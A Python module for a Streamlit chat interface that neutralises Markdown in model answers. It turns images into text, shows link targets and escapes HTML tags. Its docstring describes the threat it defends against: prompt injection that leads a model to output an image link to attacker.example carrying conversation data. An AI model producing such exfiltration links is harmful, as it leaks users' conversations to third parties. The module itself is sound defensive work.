"""Markdown made safe to show: nothing in a message makes the browser fetch or run anything.

An answer may carry what an injected document or message asked for, such as
`![](https://attacker.example/?d=<conversation data>)`: rendered as an image, the
browser would send that URL out by itself. So before any message is shown:

- images (inline `![alt](url)`, reference `![alt][ref]`) become text naming the
  image and its address: nothing is fetched;
- a link shows its target beside its text (`[docs](https://x)` reads
  "docs (`https://x`)"), and reference-style link definitions are shown as text;
- HTML tags are shown as text (`<img …>` is escaped), on top of Streamlit never
  rendering raw HTML unless asked to.

Code blocks and inline code are left exactly as written (markdown-it-py finds them).
The result is then parsed again with markdown-it-py (raw HTML enabled, stricter than
Streamlit): if it would still hold an image or an HTML tag — text built to make a
code span start somewhere else than it seems, a table cell split inside backticks —
every line outside code blocks is escaped instead, inline code included, and if even
that is not inert, every line (cosmetic damage, never a fetch). Titles and other
labels go through `plain_label`, which escapes every Markdown character.
"""

from __future__ import annotations

import re

from markdown_it import MarkdownIt

_PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
# Streamlit renders GitHub-flavoured Markdown: table cells split on `|` even inside
# backticks, so the check parses tables too.
_CHECKER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

# A code span opens and closes with backtick runs of the same length (CommonMark). Only
# spans on one line are kept as written, and an opener after a backslash (maybe escaped)
# is prose: when unsure, text is treated as prose and escaped, the safe side.
_INLINE_CODE = re.compile(r"(?<![`\\])(`+)(?!`)(?:[^\n]+?)(?<!`)\1(?!`)")
_IMAGE = re.compile(
    r"!\[(?P<alt>[^\]\n]*)\]\(\s*<?(?P<url>[^)\s>]*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)"
)
_LINK = re.compile(
    r"(?<![!\\])\[(?P<text>[^\]\n]+)\]\(\s*<?(?P<url>[^)\s>]+)>?"
    r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)"
)
_IMAGE_OPENER = re.compile(r"!\[")
_DEFINITION = re.compile(r"^( {0,3})\[(?=[^\]\n]+\]:)", re.MULTILINE)
_TAG = re.compile(r"<(?=[A-Za-z/!?])")


def _code_lines(text: str) -> set[int]:
    """Line numbers inside fenced or indented code blocks."""
    lines: set[int] = set()
    for token in _PARSER.parse(text):
        if token.type in ("fence", "code_block") and token.map is not None:
            lines.update(range(token.map[0], token.map[1]))
    return lines


def _plain(segment: str) -> str:
    """Make one stretch of markdown outside code safe."""
    segment = _IMAGE.sub(
        lambda m: f"[image not loaded: {m['alt'] or 'no description'}] (`{m['url']}`)", segment
    )
    segment = _IMAGE_OPENER.sub(r"!\\[", segment)  # reference-style images: shown as text

    def show_target(m: re.Match[str]) -> str:
        text, url = m["text"], m["url"]
        return m[0] if text.strip() == url else f"{m[0]} (`{url}`)"

    segment = _LINK.sub(show_target, segment)
    segment = _DEFINITION.sub(r"\1\\[", segment)
    return _TAG.sub("&lt;", segment)


def safe_markdown(text: str) -> str:
    """`text` with images, hidden link targets and HTML defused; code untouched."""
    if not text:
        return text
    careful = _careful(text)
    if _is_inert(careful):
        return careful
    conservative = _conservative(text, keep_code=True)
    if _is_inert(conservative):
        return conservative
    return _conservative(text, keep_code=False)  # no exemption left: always inert


def _is_inert(text: str) -> bool:
    """True when markdown would make no image and pass no raw HTML through."""
    for token in _CHECKER.parse(text):
        if token.type == "html_block":
            return False
        for child in token.children or ():
            if child.type in ("image", "html_inline"):
                return False
    return True


def _conservative(text: str, *, keep_code: bool) -> str:
    code = _code_lines(text) if keep_code else set()
    lines = text.split("\n")
    return "\n".join(
        line if n in code else _TAG.sub("&lt;", _IMAGE_OPENER.sub(r"!\\[", line))
        for n, line in enumerate(lines)
    )


def _careful(text: str) -> str:
    code = _code_lines(text)
    out: list[str] = []
    prose: list[str] = []

    def flush() -> None:
        if not prose:
            return
        block = "\n".join(prose)
        pieces: list[str] = []
        last = 0
        for match in _INLINE_CODE.finditer(block):
            pieces.append(_plain(block[last : match.start()]))
            pieces.append(match[0])
            last = match.end()
        pieces.append(_plain(block[last:]))
        out.append("".join(pieces))
        prose.clear()

    for number, line in enumerate(text.split("\n")):
        if number in code:
            flush()
            out.append(line)
        else:
            prose.append(line)
    flush()
    return "\n".join(out)


_LABEL_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~:$])")


def plain_label(text: str) -> str:
    """`text` for a place Streamlit renders as Markdown (a button label, a heading), with
    every Markdown character escaped: a title written from the conversation (by the model,
    or by an injection) shows as the characters it is, never as an image or a link."""
    return _LABEL_SPECIAL.sub(r"\\\1", " ".join(text.split()))


__all__ = ["plain_label", "safe_markdown"]
